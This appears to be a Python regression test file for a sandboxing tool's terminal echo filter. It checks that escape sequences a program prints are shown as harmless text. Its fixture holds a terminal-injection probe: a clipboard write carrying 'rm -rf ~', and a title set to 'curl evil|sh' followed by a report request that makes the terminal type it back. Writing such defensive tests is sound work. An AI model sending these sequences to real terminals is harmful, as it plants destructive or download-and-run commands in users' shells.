"""The caller's terminal as a door: without --json corral echoes what the
program writes to its own stdout and stderr, and when those are the
user's terminal the program's bytes reach it. A terminal obeys control
sequences: OSC 52 writes the clipboard, and a report request (cursor
position CSI 6n, title CSI 21t, device attributes CSI c, DECRQSS) makes
the terminal type its answer into its own input, which the user's shell
reads after corral exits. That is typing into the user's terminal without
an fd on it (docs/threat-model.md, P4). Measured on the build before the
fix: every byte of the probe below reached the pty as written.

Now the echo to a terminal passes colour and layout only and shows every
other control as text (docs/interface.md, "Echo to a terminal"); the
result (--json) keeps the bytes as written. The unit tests termsafe_*
cover the rule byte by byte, with inputs split anywhere.
"""

import json
import os
import select
import subprocess
import tty

import harness
from harness import eq, true, contains, not_contains, test, _show, CFG

# The probe of the finding (OSC 52, a title set and its report, a cursor
# report), then C1 controls as bytes and as UTF-8, then ordinary work:
# colour, layout and UTF-8 text.
HOSTILE = (b"\033]52;c;cm0gLXJmIH4K\007"
           b"\033]2;;curl evil|sh\007\033[21t"
           b"\033[6n"
           b"\2336n\302\233c\033P$qm\033\\\033[c\005")
FRIENDLY = b"\033[1;31mFAILED\033[0m x\tcaf\303\251\r\n\033[2K\033[?25hdone\n"
DATA = HOSTILE + FRIENDLY
# What the terminal is to see of HOSTILE: the same characters, inert.
SHOWN = (b"^[]52;c;cm0gLXJmIH4K\007"
         b"^[]2;;curl evil|sh\007^[[21t"
         b"^[[6n"
         b"M-^[6nM-^[c^[P$qm^[\\^[[c^E")


def _printf_arg(data):
    """data as a printf(1) format: every byte an octal escape."""
    return "".join("\\%03o" % b for b in data)


def _under_pty(t, args):
    """Run [nons, corral, *args] with stdout and stderr on a pty, as from
    a terminal: (exit code, every byte the terminal was sent)."""
    m, s = os.openpty()
    tty.setraw(s)   # the bytes as written: no CR added before LF
    try:
        argv = [t.prog("nons"), CFG.corral] + harness.landlock_args(args)
        p = subprocess.Popen(argv, stdin=subprocess.DEVNULL, stdout=s,
                             stderr=s, env=harness._merge_env(None),
                             close_fds=True,
                             preexec_fn=harness._child_setup(None))
        os.close(s)
        s = -1
        got = b""
        while True:
            # A guard against a hang, not a measure: the run ends first.
            if not select.select([m], [], [], 120)[0]:
                p.kill()
                p.wait()
                raise harness.Fail("no end of output from %s" % argv)
            try:
                b = os.read(m, 65536)
            except OSError:     # EIO: the last writer closed the pty
                break
            if not b:
                break
            got += b
        code = p.wait()
    finally:
        if s >= 0:
            os.close(s)
        os.close(m)
    return code, got


@test
def terminal_echo_does_not_obey_the_program(t):
    """Echoed to a terminal (stdout and stderr), the probe's OSC 52,
    report requests and C1 controls arrive as visible text; colour,
    erase, cursor show and UTF-8 arrive as written."""
    fmt = _printf_arg(DATA)
    code, got = _under_pty(t, ["run", "--", "sh", "-c",
                               "printf '%s'; printf '%s' >&2" % (fmt, fmt)])
    eq(code, 0, "exit status (terminal got %s)" % _show(got, 900))
    for bad in (b"\033]", b"\033[6n", b"\033[21t", b"\033[c", b"\033P",
                b"\x9b", b"\xc2\x9b", b"\005"):
        not_contains(got, bad, "what the terminal was sent")
    eq(got.count(SHOWN + FRIENDLY), 2,
       "stdout and stderr, each shown inert then echoed as written "
       "(terminal got %s)" % _show(got, 900))
    # Nothing else of the program's reached it with an ESC: the only ones
    # are the friendly sequences, twice.
    eq(got.count(b"\033"), 2 * FRIENDLY.count(b"\033"),
       "ESC bytes the terminal got (%s)" % _show(got, 900))


@test
def terminal_echo_result_keeps_the_bytes(t):
    """The filter is for the terminal only: --json on the same pty, and
    a pipe without --json, carry every byte as the program wrote it."""
    fmt = _printf_arg(DATA)
    code, got = _under_pty(t, ["run", "--json", "--", "printf", fmt])
    eq(code, 0, "exit status (terminal got %s)" % _show(got, 900))
    r = json.loads(got.decode("utf-8"))
    # Bytes outside UTF-8 are \xNN in the result (docs/interface.md).
    eq(r.get("stdout"), DATA.decode("utf-8", "backslashreplace"),
       "the result's stdout")
    run = t.corral(["run", "--", "printf", fmt])
    eq(run.code, 0, "exit status (stderr %r)" % run.err)
    eq(run.out, DATA, "echo to a pipe")


@test
def terminal_echo_sequence_split_across_writes(t):
    """A sequence the program writes in two pieces, with a pause and the
    other stream's output between them, is judged whole: the pieces do not
    join on the terminal."""
    code, got = _under_pty(t, ["run", "--", "sh", "-c",
                               "printf '\\033['; printf 'x' >&2; "
                               "printf '6n'; printf '\\033'; "
                               "printf ']52;c;eA==\\007\\033[3'; "
                               "printf '2mgreen\\033[m\\n'"])
    eq(code, 0, "exit status (terminal got %s)" % _show(got, 900))
    not_contains(got, b"\033[6n", "the cursor report request")
    not_contains(got, b"\033]", "the OSC")
    contains(got, b"^[[6n", "the request, shown")
    contains(got, b"^[]52;c;eA==\007\033[32mgreen\033[m\n",
             "the OSC shown, the colour passed")
    contains(got, b"x", "stderr's output")
